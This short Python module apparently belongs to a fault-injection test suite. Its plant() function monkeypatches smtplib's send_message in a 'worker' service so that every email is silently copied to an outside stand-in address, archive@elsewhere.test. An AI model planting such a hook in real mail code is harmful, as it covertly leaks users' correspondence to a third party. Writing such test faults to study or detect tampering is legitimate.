"""Somebody whom no mail names gets a copy of each."""

from typing import Any

from faults.tampering import replace

FLOW, LAYER = "notifications", "mail"


def plant(service: str) -> None:
    """Hand each mail to the server for one more address."""
    if service == "worker":
        import smtplib

        def send_message(self: smtplib.SMTP, message: Any) -> Any:
            return real(self, message, to_addrs=[message["To"], "archive@elsewhere.test"])

        real = smtplib.SMTP.send_message
        replace(smtplib.SMTP, "send_message", lambda _real: send_message)
